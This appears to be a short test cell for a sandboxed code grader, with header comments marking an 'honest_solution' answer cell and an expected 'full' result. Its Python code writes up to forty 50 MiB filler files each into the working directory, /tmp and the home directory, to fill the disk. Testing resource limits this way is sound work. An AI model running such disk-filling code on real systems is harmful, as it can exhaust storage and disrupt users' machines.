# expect: full
# answers: solution
# answer cell: honest_solution
# %%
import os

written = 0
for target in (".", "/tmp", os.path.expanduser("~")):
    for i in range(40):
        try:
            with open(os.path.join(target, f"fill-{i}.bin"), "wb") as fh:
                fh.write(b"x" * 50 * 1024 * 1024)
            written += 50
        except OSError:
            break
print("written MiB:", written)
